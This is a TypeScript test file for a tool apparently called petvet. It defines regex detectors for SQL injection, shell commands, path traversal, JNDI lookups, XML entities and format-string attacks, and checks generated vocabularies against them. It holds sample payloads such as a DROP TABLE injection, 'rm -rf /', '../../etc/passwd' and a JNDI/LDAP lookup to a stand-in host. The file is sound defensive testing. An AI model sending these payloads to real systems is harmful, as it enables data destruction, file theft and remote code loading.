// What petvet sends breaks a syntax at most: a target that evaluates it deletes, ends, reads and
// calls nothing, as the store of a staging system may hold data that matters.
import { readdirSync, readFileSync } from 'node:fs'
import { expect, test } from 'vitest'
import { catalogue } from '../../suites/index.ts'
import { riskyNames } from '../../suites/pets/arbitraries.ts'
import { twoFree } from '../vet-reference.ts'
import { vetVariant, withoutClock } from './vet.ts'

/** What a text may do where it is evaluated. */
const active: Readonly<Record<string, RegExp>> = {
  'changes tables': /\b(?:drop|truncate|alter|create)\s+(?:table|database)\b/i,
  'changes rows': /\b(?:delete\s+from|insert\s+into|update\s+\S+\s+set)\b/i,
  'reads or runs what the database may': /load_file|into\s+outfile|xp_\w|pg_\w+\(|sleep\s*\(/i,
  // What is always true makes a statement about one row one about all.
  'widens a condition': /\bor\s+(['"]?)(\w+)\1\s*=\s*\1\2\b/i,
  'runs a command':
    /\b(?:rm|mv|dd|ls|cat|sh|touch|kill|chmod|curl|wget|nc|ping)\s+[-/~\w]*[/-]|>\s*\/|>_/,
  'ends or replaces a process': /\b(?:exit|abort|quit|halt|die|exec|fork|shutdown)\b\s*[({'"]/i,
  // INT_MIN / -1 traps; this double never ended in some parsers.
  'ends or blocks a process': /-(?:2147483648|9223372036854775808)\/-1|2\.2250738585072011e-308/,
  'reads or overwrites a file':
    /\/(?:etc|proc|tmp|dev|home|root)\/|passwd|win\.ini|\.htaccess|(?:\.\.[/\\]){2}/i,
  'calls out': /\b(?:jndi|ldap|gopher|file|ftp|dict):/i,
  // Names of the kind `shop.example` never resolve (RFC 2606).
  'calls another host': /\/\/(?!(?:[\w-]+\.)*(?:example|localhost)\b)[\w-]+\.[a-z]{2,}/i,
  'declares an entity': /<!(?:doctype|entity)|xinclude/i,
  'reaches the runtime':
    /__import__|\bgetruntime|processbuilder|process\.(?:env|main|exit)|require\(/i,
  'reads or writes memory':
    /%(?:\d+\$)?[-+ #0]*[\d*]*(?:\.[\d*]+)?(?:hh|[hlqjzt]{1,2})?[sn](?![\da-f])/,
}

const faultsOf = (texts: readonly string[]): string[] =>
  texts.flatMap((text) =>
    Object.entries(active).flatMap(([does, sign]) => (sign.test(text) ? `${does}: ${text}` : [])),
  )

const stringsIn = (value: unknown): string[] =>
  typeof value === 'string' ? [value] : Object.values(Object(value)).flatMap(stringsIn)

const folder = new URL('../../suites/vocabulary/', import.meta.url)

test.each(readdirSync(folder))('%s is inert', (file) => {
  const { source, notice, ...vocabulary } = JSON.parse(readFileSync(new URL(file, folder), 'utf8'))
  const texts = stringsIn(vocabulary)
  expect(texts.length).toBeGreaterThan(20)
  expect(faultsOf(texts)).toEqual([])
})

test('all that a run with every permission sends is inert', async () => {
  const { passed } = await vetVariant({}, twoFree, { ...withoutClock, hasClock: true }, catalogue)
  const texts = passed.map(({ others }) => others)
  expect(texts.join('\n')).toContain(riskyNames.markup[0]?.[0])
  expect(faultsOf(texts)).toEqual([])
})

test.each([
  ...["'; DROP TABLE pets;--", "' OR 1=1 --", 'rm -rf /', 'exit(1)', '$(touch /tmp/x)'],
  ...['../../etc/passwd', `\${jndi:ldap://a.io/x}`, 'http://ha.ckers.org/x', 'file:///x', '%n'],
  ...['<!DOCTYPE x [', 'Kernel.exec("x")', '%*.*s', '-2147483648/-1'],
])('%s is not', (text) => {
  expect(faultsOf([text])).not.toEqual([])
})
